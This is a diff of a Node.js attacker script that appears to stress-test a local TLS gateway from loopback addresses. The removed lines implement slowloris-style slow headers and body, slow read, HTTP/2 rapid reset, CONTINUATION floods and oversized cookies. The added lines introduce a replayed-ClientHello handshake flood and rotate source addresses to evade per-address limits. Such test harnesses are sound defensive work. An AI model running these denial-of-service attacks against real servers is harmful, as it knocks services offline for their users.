@@ -1,142 +1,98 @@
-/** `node attacker.ts KIND PORT CA_FILE`: one kind of attack on a gateway until the parent lets go; says when it stands. */
+/**
+ * `node attacker.ts KIND PORT CA_FILE`: one kind of attack on a server of TLS until the parent lets go. Says when it
+ * begins, when all its connections stand and, asked, how many do.
+ */
 import { readFileSync } from "node:fs";
-import { connect as connectTcp } from "node:net";
+import { connect as connectTcp, createServer } from "node:net";
+import type { AddressInfo, Socket } from "node:net";
 import { connect } from "node:tls";
-import type { TLSSocket } from "node:tls";
-import { END_HEADERS, END_STREAM, FRAME, frame, headerBlock, PREFACE } from "../../support/http2-frames.ts";
+import { ATTACKS } from "./attacks.ts";
 
 /** Connections of one address, as the gateway allows. */
 const PER_ADDRESS = 900;
-const HOST = "Host: localhost\r\n";
-
-interface Attack {
-  readonly connections: number;
-  readonly protocol: "http/1.1" | "h2";
-  /** What a connection does once it stands. */
-  readonly act: (socket: TLSSocket) => void;
-}
-
-/** One byte a second keeps a connection alive for servers that ask only for some progress. */
-function drip(socket: TLSSocket, byte: string): void {
-  const timer = setInterval(() => socket.write(byte), 1_000);
-  socket.once("close", () => clearInterval(timer));
-}
-
-/** As fast as the other side takes it. */
-function pour(socket: TLSSocket, next: () => Buffer): void {
-  const more = (): void => {
-    while (!socket.destroyed && socket.write(next()));
-  };
-  socket.on("drain", more);
-  more();
-}
-
-const REQUEST = headerBlock([
-  [":method", "GET"],
-  [":scheme", "https"],
-  [":path", "/"],
-  [":authority", "localhost"],
-]);
-
-const ATTACKS: Readonly<Record<string, Attack>> = {
-  "slow-headers": {
-    connections: 1_000,
-    protocol: "http/1.1",
-    act(socket) {
-      socket.write(`GET / HTTP/1.1\r\n${HOST}X-A: `);
-      drip(socket, "a");
-    },
-  },
-  "slow-body": {
-    connections: 1_000,
-    protocol: "http/1.1",
-    act(socket) {
-      socket.write(`POST / HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`);
-      drip(socket, "a");
-    },
-  },
-  "slow-read": {
-    connections: 500,
-    protocol: "http/1.1",
-    act(socket) {
-      socket.pause();
-      socket.write(`GET / HTTP/1.1\r\n${HOST}\r\n`.repeat(500));
-    },
-  },
-  "rapid-reset": {
-    connections: 4,
-    protocol: "h2",
-    act(socket) {
-      let stream = 1;
-      socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0)]));
-      pour(socket, () => {
-        const frames = [];
-        for (let index = 0; index < 100; index++, stream += 2)
-          frames.push(
-            frame(FRAME.headers, END_STREAM | END_HEADERS, stream, REQUEST),
-            frame(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, 8])),
-          );
-        return Buffer.concat(frames);
-      });
-    },
-  },
-  continuation: {
-    connections: 4,
-    protocol: "h2",
-    act(socket) {
-      socket.write(
-        Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0), frame(FRAME.headers, END_STREAM, 1, REQUEST)]),
-      );
-      const more = frame(FRAME.continuation, 0, 1, headerBlock([["a", "b"]]));
-      pour(socket, () => Buffer.concat(Array.from({ length: 200 }, () => more)));
-    },
-  },
-  cookies: {
-    connections: 4,
-    protocol: "http/1.1",
-    act(socket) {
-      socket.write(`GET / HTTP/1.1\r\n${HOST}Cookie: ${"a=1; ".repeat(200_000)}\r\n\r\n`);
-    },
-  },
-  connections: { connections: 10_000, protocol: "http/1.1", act: () => undefined },
-};
+/** Connections being opened at once. */
+const LANES = 500;
+const REOPEN_AFTER_MS = 100;
 
 const [, , kind = "", port = "", caFile = ""] = process.argv;
 const attack = ATTACKS[kind];
 if (attack === undefined)
   throw new Error(`unknown attack \`${kind}\`: expected one of ${Object.keys(ATTACKS).join(", ")}`);
+const { connections, protocol, act } = attack;
 const ca = readFileSync(caFile, "utf8");
+let standing = 0;
+let opened = 0;
 
-/** Opens one connection, and another in its place when it is ended. */
+/** Visitors come from another address of loopback. */
+function dial(place: number): Socket {
+  return connectTcp({
+    host: "127.0.0.1",
+    port: Number(port),
+    localAddress: `127.0.1.${1 + (protocol === "raw" ? place % 12 : Math.floor(place / PER_ADDRESS))}`,
+  });
+}
+
+/** Opens one connection, and another in its place when it is ended. Resolves when it stands or has failed. */
 function open(place: number): Promise<void> {
   return new Promise((resolve) => {
-    // Visitors come from another address of loopback.
-    const localAddress = `127.0.1.${1 + Math.floor(place / PER_ADDRESS)}`;
-    const socket = connect({
-      socket: connectTcp({ host: "127.0.0.1", port: Number(port), localAddress }),
-      servername: "localhost",
-      ca,
-      ALPNProtocols: [attack?.protocol ?? ""],
-    });
+    const socket = connect({ socket: dial(place), servername: "localhost", ca, ALPNProtocols: [protocol] });
     socket.on("error", () => socket.destroy());
     socket.on("data", () => undefined);
     socket.once("secureConnect", () => {
-      attack?.act(socket);
+      opened += 1;
+      standing += 1;
+      socket.once("close", () => (standing -= 1));
+      act(socket);
       resolve();
     });
     socket.once("close", () => {
       resolve();
-      setTimeout(() => void open(place), 100);
+      setTimeout(() => void open(place), REOPEN_AFTER_MS);
     });
   });
 }
 
-const LANES = 50;
-let next = 0;
-await Promise.all(
-  Array.from({ length: LANES }, async () => {
-    while (next < attack.connections) await open(next++);
-  }),
-);
+/** The first message of a handshake, to be sent again and again: the answer costs the server a signature each time. */
+function recordHello(): Promise<Buffer> {
+  return new Promise((resolve) => {
+    const server = createServer((socket) => {
+      socket.on("error", () => undefined);
+      socket.once("data", (hello) => {
+        socket.destroy();
+        server.close();
+        resolve(hello);
+      });
+    });
+    server.listen(0, "127.0.0.1", () => {
+      const client = connect({ port: (server.address() as AddressInfo).port, servername: "localhost" });
+      client.on("error", () => undefined);
+    });
+  });
+}
+
+function greet(place: number, hello: Buffer): void {
+  const socket = dial(place);
+  socket.on("error", () => socket.destroy());
+  socket.write(hello);
+  socket.once("data", () => {
+    opened += 1;
+    socket.resetAndDestroy();
+  });
+  socket.once("close", () => setImmediate(() => greet(place, hello)));
+}
+
 process.once("disconnect", () => process.exit(0));
-process.send?.("standing");
+process.on("message", () => process.send?.({ standing, opened }));
+process.send?.("begins");
+if (protocol === "raw") {
+  const hello = await recordHello();
+  for (let place = 0; place < connections; place++) greet(place, hello);
+} else {
+  let next = 0;
+  await Promise.all(
+    Array.from({ length: LANES }, async () => {
+      while (next < connections) await open(next++);
+    }),
+  );
+}
+process.send?.("stands");
